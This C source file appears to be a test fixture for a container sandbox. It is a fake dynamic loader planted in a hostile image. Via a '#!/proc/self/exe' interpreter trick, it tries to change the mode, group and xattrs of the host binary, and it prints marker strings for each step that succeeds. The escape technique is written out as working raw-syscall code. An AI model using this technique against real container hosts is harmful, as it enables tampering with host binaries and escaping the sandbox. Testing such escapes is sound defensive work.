/*
 * A "dynamic loader" shipped by a hostile image as /lib64/ld-linux-x86-64.so.2.
 *
 * The image's entrypoint is a script starting with "#!/proc/self/exe". If the process that
 * execs it were a dynamically linked host binary (the host's python), the kernel would run
 * that binary with this file as its ELF interpreter, and this code would run in a process
 * whose /proc/self/exe is the host binary. It then tries to change that binary's mode, group
 * and xattrs, and says what it managed. Freestanding: no libc, raw syscalls.
 */
#define SYS_write 1
#define SYS_open 2
#define SYS_close 3
#define SYS_fstat 5
#define SYS_fchmod 91
#define SYS_fchown 93
#define SYS_fsetxattr 190
#define SYS_exit_group 231

static long sc(long n, long a, long b, long c, long d, long e)
{
    long r;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
                     : "rcx", "r11", "memory");
    return r;
}

static void say(const char *s)
{
    long n = 0;
    while (s[n])
        n++;
    sc(SYS_write, 1, (long)s, n, 0, 0);
}

void _start(void)
{
    unsigned char st[144];
    say("EVIL-LOADER-RAN\n");
    long fd = sc(SYS_open, (long)"/proc/self/exe", 0, 0, 0, 0);
    if (fd >= 0 && sc(SYS_fstat, fd, (long)st, 0, 0, 0) == 0) {
        unsigned mode = *(unsigned *)(st + 24);
        if (sc(SYS_fchmod, fd, (mode & 07777) | 01000, 0, 0, 0) == 0)
            say("EVIL-CHMOD\n");
        if (sc(SYS_fchown, fd, -1, 4242, 0, 0) == 0)
            say("EVIL-CHOWN\n");
        if (sc(SYS_fsetxattr, fd, (long)"user.silobox_probe", (long)"1", 1, 0) == 0)
            say("EVIL-XATTR\n");
    }
    sc(SYS_exit_group, 0, 0, 0, 0, 0);
    for (;;)
        ;
}
